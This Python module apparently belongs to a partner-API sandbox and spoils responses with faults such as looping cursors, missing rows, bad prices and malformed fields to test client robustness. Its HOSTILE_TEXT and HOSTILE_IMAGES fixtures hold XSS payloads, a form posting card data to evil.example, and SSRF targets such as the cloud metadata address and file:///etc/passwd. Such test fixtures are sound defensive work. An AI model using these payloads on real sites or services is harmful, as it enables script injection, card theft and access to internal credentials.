"""What a partner's data are like on a bad day: looping cursors, lost rows, odd prices, scripts.

These faults change the payload of an answer that is otherwise right. They hold until cleared and
may be combined. `lag` and `prefix` are here by name only: the orders' endpoints act on them.
"""

import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from decimal import Decimal
from typing import Any

from partner_api.sandbox.paging import cursor_for, read_cursor
from partner_api.sandbox.wire import Json, Request


@dataclass(frozen=True, slots=True)
class Bad:
    """An answer to be spoilt, the request it answers, and the fault's params."""

    payload: Json
    request: Request
    params: Json


Fault = Callable[[Bad], None]

HOSTILE_TEXT = (
    '<script>fetch("//evil.example")</script><img src="http://169.254.169.254/" onerror="alert(1)">'
    '<form action="//evil.example"><input name="card"></form><a href="javascript:alert(1)">gift</a>'
    '<iframe src="//evil.example"></iframe><b hx-get="//evil.example" hx-trigger="load">bold</b>'
    "\u202eright to left\u202c zero\u200bwidth"
)
HOSTILE_IMAGES = (
    "http://169.254.169.254/latest/meta-data/",
    "file:///etc/passwd",
    "http://127.0.0.1:1/redirect",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "javascript:alert(1)",
    "//evil.example/pixel.gif",
)
_PRICES: dict[str, Callable[[Decimal], object]] = {
    "zero": lambda _: 0,
    "negative": lambda price: -price,
    "null": lambda _: None,
    "string": str,
    "x100": lambda price: price * 100,
    "div100": lambda price: price / 100,
}
_COUNTS: dict[str, object] = {"zero": 0, "many": 9999, "null": None, "negative": -1, "string": "5"}


def _cursor_repeats(bad: Bad) -> None:
    """From the second page on, the next page is the same page."""
    if bad.request.query.get("cursor"):
        bad.payload["meta"]["next_cursor"] = bad.request.query["cursor"]


def _cursor_loops(bad: Bad) -> None:
    """The third page leads back to the second: A, B, A, B."""
    place = read_cursor(bad.request.query.get("cursor"))
    size = bad.payload["meta"]["per_page"]
    if place is not None and place[0] >= 2 * size:
        bad.payload["meta"]["next_cursor"] = cursor_for(size)


def _cursor_endless(bad: Bad) -> None:
    """After the last page comes another, empty one, for ever, each with a new cursor."""
    if bad.payload["meta"]["next_cursor"] is None:
        place = read_cursor(bad.request.query.get("cursor"))
        bad.payload["meta"]["next_cursor"] = cursor_for(abs(place[0]) + 10**6 if place else 10**6)


def _cursor_malformed(bad: Bad) -> None:
    """A next cursor that can't be read, which silently means the first page."""
    bad.payload["meta"]["next_cursor"] = "not-a-cursor"


def _empty_page(bad: Bad) -> None:
    bad.payload["data"] = []


def _half_page(bad: Bad) -> None:
    bad.payload["data"] = bad.payload["data"][: len(bad.payload["data"]) // 2]


def _shrink(bad: Bad) -> None:
    """`percent` of the SKUs are gone, from products and pricelist alike; the rest is right."""
    percent = float(bad.params.get("percent", 60))

    def stays(row: Json) -> bool:
        name = str(row.get("sku_id") or row.get("id"))
        return zlib.crc32(name.encode()) % 100 >= percent

    kept = []
    for row in bad.payload["data"]:
        if "skus" in row:
            row["skus"] = [sku for sku in row["skus"] if stays(sku)]
        if row.get("skus", True) and ("sku_id" not in row or stays(row)):
            kept.append(row)
    bad.payload["data"] = kept


def _price(bad: Bad) -> None:
    """Prices (rates, for custom amounts) become `kind`: see _PRICES, "currency" or "missing"."""
    kind = str(bad.params.get("kind", "zero"))
    for row in _priced(bad):
        name = "price" if "price" in row else "rate"
        if kind == "currency":
            row["currency"] = bad.params.get("currency", "EUR")
        elif kind == "missing":
            row.pop(name, None)
        elif row.get(name) is not None:
            row[name] = _PRICES[kind](Decimal(row[name]))


def _stock(bad: Bad) -> None:
    for row in _priced(bad):
        row["stock"] = _COUNTS[str(bad.params.get("kind", "zero"))]


def _max_per_order(bad: Bad) -> None:
    for row in _priced(bad):
        row["max_per_order"] = _COUNTS[str(bad.params.get("kind", "zero"))]


def _hostile_text(bad: Bad) -> None:
    """Scripts, forms and frames in names and descriptions; `size` pads the description (bytes)."""
    padding = "<p>" + "x" * int(bad.params.get("size", 0)) + "</p>"
    for row in _products(bad.payload):
        row["description"] = f"{row.get('description') or ''}{HOSTILE_TEXT}{padding}"
        row["name"] = f"{row.get('name')} <script>alert(1)</script>"


def _hostile_image(bad: Bad) -> None:
    for number, row in enumerate(_products(bad.payload)):
        row["image"] = HOSTILE_IMAGES[number % len(HOSTILE_IMAGES)]


def _unknown_type(bad: Bad) -> None:
    for row in _products(bad.payload):
        row["type"], row["denomination_type"] = "subscription", "flexible"


def _missing_locale(bad: Bad) -> None:
    """Russian names and descriptions are null (or `value`)."""
    if bad.request.query.get("locale") == "ru":
        for row in bad.payload["data"]:
            row.update(
                {key: bad.params.get("value") for key in ("name", "description") if key in row}
            )


def _same_names(bad: Bad) -> None:
    for row in bad.payload["data"]:
        if "name" in row:
            row["name"] = "Gift card"


def _nulls(bad: Bad) -> None:
    """Null where an object or a list was."""
    for row in _rows(bad.payload):
        for key, value in row.items():
            if isinstance(value, dict | list):
                row[key] = None


def _extra_keys(bad: Bad) -> None:
    bad.payload["trace"] = {"id": "a-key-nobody-knows"}
    for row in _rows(bad.payload):
        row["novelty"] = {"since": 2027}


def _unreadable_fields(bad: Bad) -> None:
    for row in _products(bad.payload):
        row["fields"] = [{"???": 1}, 7, None]


def _overlay(bad: Bad) -> None:
    """`values` laid over the answer, object into object."""
    values = bad.params.get("values")
    if isinstance(values, dict):
        _merge(bad.payload, values)


def _elsewhere(_bad: Bad) -> None:
    """Done by the endpoint itself."""


def _merge(below: Json, above: Json) -> None:
    for key, value in above.items():
        if isinstance(value, dict) and isinstance(below.get(key), dict):
            _merge(below[key], value)
        else:
            below[key] = value


def _rows(payload: Json) -> list[Json]:
    data: Any = payload["data"]
    return data if isinstance(data, list) else [data]


def _products(payload: Json) -> list[Json]:
    return [row for row in _rows(payload) if "denomination_type" in row and "sku_id" not in row]


def _priced(bad: Bad) -> Iterator[Json]:
    """Yield the rows with a price: of the pricelist or of one product; `sku` picks one of them."""
    for row in _rows(bad.payload):
        for priced in [row] if "sku_id" in row else row.get("skus", []):
            wanted = bad.params.get("sku")
            if "stock" in priced and wanted in {None, priced.get("sku_id"), priced.get("id")}:
                yield priced


def apply(name: str, payload: Json, request: Request, params: Json) -> None:
    """Spoil an answer; a fault of lists or of cursors leaves other answers alone."""
    is_list = isinstance(payload.get("data"), list)
    if (name in _OF_LISTS and not is_list) or (name in _OF_CURSORS and "meta" not in payload):
        return
    FAULTS[name](Bad(payload, request, params))


_OF_CURSORS = {"cursor_repeats", "cursor_loops", "cursor_endless", "cursor_malformed"}
_OF_LISTS = {"empty_page", "half_page", "shrink", "same_names", "missing_locale"}
#: Every fault of the data by name.
FAULTS: dict[str, Fault] = {
    "lag": _elsewhere,
    "prefix": _elsewhere,
    "cursor_repeats": _cursor_repeats,
    "cursor_loops": _cursor_loops,
    "cursor_endless": _cursor_endless,
    "cursor_malformed": _cursor_malformed,
    "empty_page": _empty_page,
    "half_page": _half_page,
    "shrink": _shrink,
    "price": _price,
    "stock": _stock,
    "max_per_order": _max_per_order,
    "hostile_text": _hostile_text,
    "hostile_image": _hostile_image,
    "unknown_type": _unknown_type,
    "missing_locale": _missing_locale,
    "same_names": _same_names,
    "nulls": _nulls,
    "extra_keys": _extra_keys,
    "unreadable_fields": _unreadable_fields,
    "overlay": _overlay,
}
